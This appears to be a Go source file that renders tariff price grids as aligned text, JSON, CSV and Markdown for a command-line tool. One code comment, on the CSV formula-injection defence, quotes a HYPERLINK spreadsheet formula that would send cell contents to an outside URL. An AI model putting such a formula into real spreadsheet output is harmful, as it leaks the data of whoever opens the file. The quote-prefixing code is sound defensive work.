package render

import (
	"encoding/csv"
	"io"
	"strconv"
	"strings"

	"github.com/charmbracelet/x/ansi"

	"github.com/avenant-dev/avenant/internal/sanitize"
	"github.com/avenant-dev/avenant/tariff"
)

// TariffsFormats are the output formats of avenant tariffs.
var TariffsFormats = []string{"text", "json", "csv", "markdown"}

// WriteTariffs prints the grid in format, one of TariffsFormats.
func WriteTariffs(w io.Writer, g *tariff.Grid, format string, st Styles) error {
	switch format {
	case "json":
		return WriteJSON(w, newTariffsDoc(g))
	case "csv":
		return tariffsCSV(w, g)
	case "markdown":
		return tariffsMarkdown(w, g)
	}
	return tariffsText(w, g, st)
}

// newTariffsDoc builds the JSON view of a grid.
func newTariffsDoc(g *tariff.Grid) TariffsDoc {
	doc := TariffsDoc{Schema: TariffsSchema, Versions: []VersionRef{}, Rows: []TariffRow{}}
	for _, v := range g.Versions {
		doc.Versions = append(doc.Versions, VersionRef{v.Label, v.Party, v.Date})
	}
	value := func(p tariff.Price) TariffValue {
		return TariffValue{Value: p.Value, Unit: p.Unit, Text: p.Text, Clause: p.Clause, Effective: p.Effective, Column: p.Column}
	}
	for _, r := range g.Rows {
		row := TariffRow{Code: r.Code, Label: r.Label, Table: r.Table, Values: make([]*TariffValue, len(r.Cells))}
		for i, c := range r.Cells {
			if c == nil {
				continue
			}
			v := value(c.Price)
			for _, a := range c.Also {
				v.Also = append(v.Also, value(a))
			}
			row.Values[i] = &v
		}
		doc.Rows = append(doc.Rows, row)
	}
	return doc
}

// TariffCell writes a cell for a reader: the amount as written, its date
// when it has one, where it comes from when that is not a tariff row, and
// the other prices the version gives the code; Absent for no price.
func TariffCell(c *tariff.Cell) string {
	if c == nil {
		return Absent
	}
	parts := []string{priceText(c.Price)}
	for _, a := range c.Also {
		parts = append(parts, priceText(a))
	}
	return sanitize.Line(strings.Join(parts, " / "))
}

func priceText(p tariff.Price) string {
	s := p.Text
	if p.Effective != "" {
		s += " from " + p.Effective
	}
	if !p.Row {
		s += " (" + p.Clause + ")"
	}
	return s
}

// tariffsText writes the grid as an aligned table: the code, the act's
// label, one column per version. A cell that differs from the version
// before it is highlighted, or marked with "*" without colour.
func tariffsText(w io.Writer, g *tariff.Grid, st Styles) error {
	ew := &errWriter{w: w}
	if len(g.Rows) == 0 {
		ew.printf("no prices\n")
		return ew.err
	}
	header := append(rowHeader(g), "label")
	for _, v := range g.Versions {
		header = append(header, sanitize.Line(v.Label))
	}
	first := len(header) - len(g.Versions) // the column of the first version
	table := [][]string{header}
	changed := [][]bool{make([]bool, len(header))}
	anyChange := false
	for i := range g.Rows {
		r := &g.Rows[i]
		line := append(rowNames(g, r), truncate(sanitize.Line(r.Label), 40))
		marks := make([]bool, len(header))
		for v, c := range r.Cells {
			cell := TariffCell(c)
			if r.Changed(v) {
				marks[v+first], anyChange = true, true
				if !st.Color {
					cell += " *"
				}
			}
			line = append(line, cell)
		}
		table = append(table, line)
		changed = append(changed, marks)
	}
	widths := make([]int, len(header))
	for _, line := range table {
		for k, cell := range line {
			widths[k] = max(widths[k], ansi.StringWidth(cell))
		}
	}
	for n, line := range table {
		var b strings.Builder
		for k, cell := range line {
			pad := ""
			if k < len(line)-1 {
				pad = strings.Repeat(" ", widths[k]-ansi.StringWidth(cell)+2)
			}
			switch {
			case n == 0:
				cell = st.render(st.Header, cell)
			case changed[n][k]:
				cell = st.render(st.Kind, cell)
			}
			b.WriteString(cell + pad)
		}
		ew.printf("%s\n", strings.TrimRight(b.String(), " "))
	}
	if anyChange && !st.Color {
		ew.printf("* differs from the version before\n")
	}
	return ew.err
}

// rowHeader names the columns that name a row: its table, when the grid
// tells tables apart, and its code.
func rowHeader(g *tariff.Grid) []string {
	if g.ByTable {
		return []string{"table", "code"}
	}
	return []string{"code"}
}

// rowNames are a row's cells under rowHeader.
func rowNames(g *tariff.Grid, r *tariff.Row) []string {
	if g.ByTable {
		return []string{sanitize.Line(r.Table), sanitize.Line(r.Code)}
	}
	return []string{sanitize.Line(r.Code)}
}

// csvText makes a cell of text from a document or a label inert in a
// spreadsheet: one that opens with = + - @ (or a tab or a carriage return,
// which some strip first) is a formula there, and a row labelled
// '=HYPERLINK("http://…?"&A1)' would run when the grid is opened. A quote
// before it makes it text, as spreadsheets themselves write it.
func csvText(s string) string {
	if s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
		return "'" + s
	}
	return s
}

// tariffsCSV writes one line per act code and one column per version,
// holding the value as a number (a dot before the decimals) for a
// spreadsheet; an empty cell where a version prices no such act. A code
// priced several times in a version (per zone, or by an article too) has
// a line for each of its prices, in the grid's order: on the first line
// alone, the other zones' prices, and a change of them, were lost.
func tariffsCSV(w io.Writer, g *tariff.Grid) error {
	cw := csv.NewWriter(w)
	header := append(rowHeader(g), "label")
	for _, v := range g.Versions {
		header = append(header, csvText(sanitize.Line(v.Label)))
	}
	if err := cw.Write(header); err != nil {
		return err
	}
	for _, r := range g.Rows {
		prices := 1
		for _, c := range r.Cells {
			if c != nil {
				prices = max(prices, 1+len(c.Also))
			}
		}
		for k := range prices {
			line := append(rowNames(g, &r), sanitize.Line(r.Label))
			for i := range line {
				line[i] = csvText(line[i])
			}
			for _, c := range r.Cells {
				cell := ""
				switch {
				case c == nil:
				case k == 0:
					cell = strconv.FormatFloat(c.Value, 'f', -1, 64)
				case k <= len(c.Also):
					cell = strconv.FormatFloat(c.Also[k-1].Value, 'f', -1, 64)
				}
				line = append(line, cell)
			}
			if err := cw.Write(line); err != nil {
				return err
			}
		}
	}
	cw.Flush()
	return cw.Error()
}

// tariffsMarkdown writes the grid as a Markdown table, for a job summary
// or a memo; a cell that differs from the version before is in bold.
func tariffsMarkdown(w io.Writer, g *tariff.Grid) error {
	ew := &errWriter{w: w}
	header := append(rowHeader(g), "label")
	ew.printf("| %s |", strings.Join(header, " | "))
	for _, v := range g.Versions {
		ew.printf(" %s |", MarkdownText(sanitize.Line(v.Label)))
	}
	ew.printf("\n|%s\n", strings.Repeat("---|", len(header)+len(g.Versions)))
	for i := range g.Rows {
		r := &g.Rows[i]
		ew.printf("|")
		for _, name := range append(rowNames(g, r), sanitize.Line(r.Label)) {
			ew.printf(" %s |", MarkdownText(name))
		}
		for v, c := range r.Cells {
			cell := MarkdownText(TariffCell(c))
			if r.Changed(v) {
				cell = "**" + cell + "**"
			}
			ew.printf(" %s |", cell)
		}
		ew.printf("\n")
	}
	return ew.err
}
